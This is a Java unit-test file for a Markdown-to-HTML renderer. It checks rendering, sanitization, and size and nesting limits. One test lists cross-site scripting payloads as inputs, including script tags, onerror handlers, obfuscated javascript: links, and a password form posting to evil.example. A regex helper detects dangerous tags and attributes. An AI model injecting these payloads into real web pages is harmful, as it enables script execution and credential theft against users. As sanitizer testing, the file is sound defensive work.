package io.roundtable.feature.task;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.Duration;
import java.util.Collections;
import java.util.Locale;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.constraints.Chars;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class MarkdownTest {
  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      quoteCharacter = '~',
      value = {
        "plain          | <p>plain</p>",
        "*a* **b**      | <p><em>a</em> <strong>b</strong></p>",
        "`a < b`        | <p><code>a &lt; b</code></p>",
        "# Title        | <h2>Title</h2>",
        "##### Title    | <h6>Title</h6>",
        "###### Title   | <h6>Title</h6>",
        "<h1>Title</h1> | <h2>Title</h2>",
        "3. three       | <ol start=\"3\"><li>three</li></ol>",
        "[a](/b)        | <p><a href=\"/b\" rel=\"nofollow\">a</a></p>"
      })
  void toHtml_ofMarkdown_isMarkup(String text, String html) {
    assertEquals(html, Markdown.toHtml(text).replaceAll(">\\n", ">").strip());
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<p style='position:fixed' class=menu id=main onclick=alert(1)>x</p>",
        "<iframe src=//evil.example></iframe>",
        "<form action=//evil.example><input name=password></form>",
        "<base href=//evil.example>",
        "<meta http-equiv=refresh content='0;url=//evil.example'>",
        "<math><mtext><style><img src=x onerror=alert(1)>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt&colon;alert(1))",
        "[x](&#106;avascript:alert(1))",
        "<javascript:alert(1)>",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](vbscript:msgbox)",
        "<a href='java\tscript:alert(1)'>x</a>",
        "![x](https://evil.example/pixel.png)"
      })
  void toHtml_ofWhatCouldDoHarm_keepsNothingOfIt(String text) {
    assertHarmless(Markdown.toHtml(text));
  }

  @Property(tries = 300)
  void toHtml_ofAnything_isHarmless(
      @ForAll @Chars({'<', '>', '"', '\'', '=', '/', '[', ']', '(', ')', '&', 'a', ' ', '\n'})
          String noise) {
    assertHarmless(Markdown.toHtml(noise + "<img src=x onerror=alert(1)>" + noise));
  }

  @ParameterizedTest
  @ValueSource(strings = {">", "- ", "*a **b ", "[", "[a](", "<blockquote>", "`", "*a _b "})
  void toHtml_ofWhatNestsDeeply_endsSoon(String part) {
    var text = part.repeat(50_000 / part.length());

    assertTimeoutPreemptively(Duration.ofSeconds(20), () -> Markdown.toHtml(text));
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        ">",
        "> ",
        "- ",
        "* ",
        "1. ",
        "# a\n",
        "- a\n",
        "a\n\n",
        "&",
        "\"",
        "'",
        "<",
        "<b>",
        "*a*",
        "**a** ",
        "`a`",
        "[a](b)",
        "<a:b>",
        "<h1>",
        "<li>",
        "<blockquote>",
        "![a](b)",
        "***\n",
        "a  \n"
      })
  void toHtml_ofAnythingThatGrows_isBounded(String part) {
    var text = part.repeat(20_000 / part.length());

    assertTrue(Markdown.toHtml(text).length() <= Markdown.TEXT_BYTES, part);
  }

  @Test
  void toHtml_ofOneLinkUsedOften_isTheTextWithASentence() {
    var text = "[a]: /" + "x".repeat(9_992) + "\n\n" + "[a]".repeat(3_333);

    var html = Markdown.toHtml(text);

    assertTrue(html.startsWith("<p class=\"hint\">This text is shown as it was written"), html);
    assertTrue(html.contains("[a][a][a]"));
    assertEquals(3_333, html.split("\\[a](?!:)", -1).length - 1);
    assertTrue(html.length() < text.length() + 500);
  }

  @Test
  void toHtml_ofTooMuchForAPage_showsTheBeginningOfEach() {
    var texts = Collections.nCopies(50, "&".repeat(300_000));

    var html = Markdown.toHtml(texts);

    assertTrue(html.stream().mapToInt(String::length).sum() <= Markdown.PAGE_BYTES);
    assertTrue(html.stream().allMatch(text -> text.contains("Only the beginning of this text")));
  }

  @Test
  void toHtml_ofSeveralTexts_formatsWhatFits() {
    var grows = "> ".repeat(20) + "a\n\n";
    var texts = Collections.nCopies(25, grows.repeat(450));

    var html = Markdown.toHtml(texts);

    assertTrue(html.getFirst().contains("<blockquote>"), "the first has room");
    assertFalse(html.getLast().contains("<blockquote>"), "the last has not");
    assertTrue(html.getLast().contains("&gt; &gt; a"));
    assertTrue(html.stream().mapToInt(String::length).sum() <= Markdown.PAGE_BYTES);
  }

  @Test
  void toHtml_ofManyLinks_isTheText() {
    assertTrue(Markdown.toHtml("[a](b) ".repeat(1_000)).contains("<a href"));
    assertFalse(Markdown.toHtml("[a](b) ".repeat(1_001)).contains("<a href"));
  }

  @Test
  void toHtml_ofDeepNesting_endsIt() {
    var html = Markdown.toHtml(">".repeat(1_000) + "a");

    assertTrue(html.split("<blockquote>", -1).length <= 33, html);
  }

  /// Text may say anything, so only what stands inside of tags is looked at.
  private static void assertHarmless(String html) {
    for (var tag : html.split("<")) {
      var inside = tag.substring(0, Math.max(tag.indexOf('>'), 0)).toLowerCase(Locale.ROOT);
      assertFalse(
          inside.matches(
              "(?s)(script|svg|img|iframe|form|input|base|meta|math|style|object|embed).*"
                  + "|.*\\s(on\\w+|style|class|id|src)\\s*=.*"
                  + "|.*(javascript|vbscript|data):.*"),
          html);
    }
  }
}
